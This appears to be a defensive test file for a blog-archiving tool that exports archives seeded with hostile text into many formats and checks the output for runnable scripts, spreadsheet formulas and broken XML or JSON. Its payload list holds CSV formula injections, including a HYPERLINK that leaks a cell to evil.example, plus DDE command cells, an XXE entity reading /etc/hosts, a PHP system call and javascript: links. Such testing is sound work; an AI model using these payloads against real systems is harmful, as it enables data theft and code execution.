import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { inflateRawSync } from 'node:zlib'
import { DOMParser } from '@xmldom/xmldom'
import { exportArchive } from '../../../src/export/index.ts'
import { extractComments, extractEntry } from '../../../src/extract/index.ts'
import { parsePage } from '../../../src/page/index.ts'
import { openArchive } from '../../../src/store/index.ts'
import { urlOf } from '../../../src/url.ts'
import { piecesOf } from '../../../src/warc/index.ts'
import { readZip } from '../../../src/warc/zip-reader.ts'
import { sampleBlog, samplePost } from '../../../test/sample-records.ts'
import { XSS_STRINGS } from '../../../test/xss-strings.ts'
import { bytesOf } from '../../fuzz/readers.ts'
import { dangersIn } from '../dangers.ts'
import type { Row } from '../row.ts'

/** Cells that spreadsheets run, and control characters that XML has no place for. */
const TEXTS = [
  ...XSS_STRINGS,
  '=HYPERLINK("http://evil.example/?"&A1,"a")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  ']]>',
  '--> <!-- ',
  '<?php system("id") ?>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>&b;',
  '\u0000\u0001\u000b\uffff\ud800',
  '{{constructor.constructor("alert(1)")()}}',
  '---\ntitle: other\n---\n',
  '![a](javascript:alert(1))',
  '[a](javascript:alert(1))',
  '{% include evil %}',
  '{{< evil >}}',
]

function pageOf(text: string): string {
  const shown = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
  return `<!doctype html><title>${shown}</title><article class="post"><h1 class="entry-title">${shown}</h1>
<p class="byline"><a rel="author" href="javascript:alert(1)">${shown}</a> <time datetime="2024-05-03">3 May 2024</time></p>
<div class="entry-content"><p>The words of a post, of which there are enough to be taken for an article by whoever reads it, in two paragraphs.</p>
<p>${shown}</p>${text}<p><a href="javascript:alert(1)" onclick="alert(1)">${shown}</a> and more words of the post, so that it is long enough.</p></div>
<a rel="tag" href="/tag/a">${shown}</a></article>
<ol class="comment-list"><li class="comment" id="comment-1"><cite class="fn"><a href="javascript:alert(1)">${shown}</a></cite>
<div class="comment-content"><p>${shown}</p>${text}</div></li></ol>`
}

const BLOG = sampleBlog({ title: TEXTS[0] ?? '', description: TEXTS.join(' ') })

/** An archive of what our own readers make of hostile pages. */
async function hostileArchive() {
  const store = await openArchive(':memory:', { create: true, write: true })
  const entries = TEXTS.map((text, at) => {
    const url = urlOf(`https://example.org/${at}/?${encodeURIComponent(text.toWellFormed())}`)
    const page = parsePage(pageOf(text), url)
    const { article: _, ...read } = extractEntry(page, { feedEntry: null, blog: { ...BLOG, authors: [] } })
    const { comments } = extractComments(page, { article: null, language: 'en', feedComments: [] })
    const { title, authors, html, text: words, excerpt, tags, categories, links, media } = read
    return samplePost(`${at}/`, {
      url,
      title,
      authors,
      html,
      text: words,
      excerpt,
      tags,
      categories,
      links,
      media,
      comments,
    })
  })
  // Titles and tags come from feeds as they stand.
  const told = TEXTS.map((text, at) => samplePost(`told/${at}/`, { title: text, tags: [text], excerpt: text, text }))
  await store.commit({ blog: BLOG, entries: [...entries, ...told] })
  return store
}

/** Exports it, and gives the files that came out with their content. */
async function exported(format: string): Promise<Map<string, Buffer>> {
  const folder = mkdtempSync(join(tmpdir(), 'permablog-bench-'))
  const store = await hostileArchive()
  try {
    await exportArchive(store, { format, output: join(folder, 'out') })
    const files = new Map<string, Buffer>()
    for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
      if (statSync(join(folder, name)).isFile()) files.set(name, readFileSync(join(folder, name)))
    }
    return files
  } finally {
    await store.close()
    rmSync(folder, { recursive: true, force: true })
  }
}

/** The files within a ZIP. */
async function unzipped(file: Buffer): Promise<Map<string, Buffer>> {
  const { stored, deflated } = await readZip(bytesOf(file))
  const files = new Map<string, Buffer>()
  for (const { name, bytes } of [...stored, ...deflated]) {
    const pieces: Buffer[] = []
    for await (const piece of piecesOf(bytes, 0, bytes.size)) pieces.push(piece)
    const content = Buffer.concat(pieces)
    files.set(name, stored.some(one => one.name === name) ? content : inflateRawSync(content))
  }
  return files
}

/** What an XML parser says against a file. */
function faultsOf(xml: string): string[] {
  const faults: string[] = []
  try {
    new DOMParser({
      onError: (level, message) => void (level !== 'warning' && faults.push(message.slice(0, 80))),
    }).parseFromString(xml, 'text/xml')
  } catch (error) {
    faults.push(String(error).slice(0, 80))
  }
  return faults
}

const isMarkup = (name: string) => /\.x?html?$/.test(name)
const isXml = (name: string) => /\.(xml|opf|ncx|xhtml|rdf)$/.test(name)

type Look = (files: ReadonlyMap<string, Buffer>) => Promise<readonly string[]> | readonly string[]

const inAll =
  (look: (text: string) => readonly string[], isMeant: (name: string) => boolean = () => true): Look =>
  files =>
    [...files]
      .filter(([name]) => isMeant(name))
      .flatMap(([name, bytes]) => look(bytes.toString('utf8')).map(found => `${name}: ${found}`))

/** Cells that a spreadsheet would run. */
function formulasIn(csv: string): string[] {
  return [...csv.matchAll(/(?<=^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)]
    .map(([, quoted, plain]) => quoted ?? plain ?? '')
    .filter(cell => /^[=+@\t\r\uff1d]|^-(?!\d+(?:\.\d+)?$)/.test(cell))
}

/** Addresses and markup that a renderer of Markdown would let run. */
function markdownDangers(text: string): string[] {
  const body = text.replace(/^---\n[\s\S]*?\n---\n/, '').replace(/^(`{3,}|~{3,})[\s\S]*?^\1/gm, '')
  const raw = [...body.matchAll(/(?<!\\)<(script|iframe|object|embed|svg|math|style|img[^>]*\son)[\s>/]/gi)].map(
    ([found]) => found,
  )
  const links = [...body.matchAll(/(?<!\\)\]\(\s*<?(?:javascript|vbscript|data):/gi)].map(([found]) => found)
  return [...raw, ...links]
}

const LOOKS: Readonly<Record<string, readonly (readonly [what: string, look: Look])[]>> = {
  html: [['scripts', inAll(dangersIn, isMarkup)]],
  epub: [
    ['scripts', async files => inAll(dangersIn, isMarkup)(await unzipped([...files.values()][0] ?? Buffer.alloc(0)))],
    ['broken XML', async files => inAll(faultsOf, isXml)(await unzipped([...files.values()][0] ?? Buffer.alloc(0)))],
  ],
  markdown: [['scripts', inAll(markdownDangers, name => name.endsWith('.md'))]],
  csv: [['formulas', inAll(formulasIn)]],
  wxr: [['broken XML', inAll(faultsOf)]],
  atom: [['broken XML', inAll(faultsOf)]],
  xml: [['broken XML', inAll(faultsOf)]],
  opml: [['broken XML', inAll(faultsOf)]],
  jsonl: [
    [
      'broken lines',
      inAll(text =>
        text
          .trim()
          .split('\n')
          .flatMap(line => brokenJson(line)),
      ),
    ],
  ],
  json: [['broken JSON', inAll(brokenJson)]],
  jsonfeed: [['broken JSON', inAll(brokenJson)]],
  csl: [['broken JSON', inAll(brokenJson)]],
}

function brokenJson(text: string): string[] {
  try {
    JSON.parse(text)
    return []
  } catch (error) {
    return [String(error).slice(0, 80)]
  }
}

/** Rows of what strangers wrote, in every form in which it leaves the archive. */
export const rows: readonly Row[] = Object.entries(LOOKS).flatMap(([format, looks]) =>
  looks.map(([what, look]) => ({
    attack: `${TEXTS.length} hostile texts in every field, exported as ${format}: ${what}`,
    expected: 'none',
    outcome: async () => {
      const found = await look(await exported(format))
      return found.length === 0 ? 'none' : `${found.length}, as ${found.slice(0, 3).join('; ').slice(0, 200)}`
    },
  })),
)
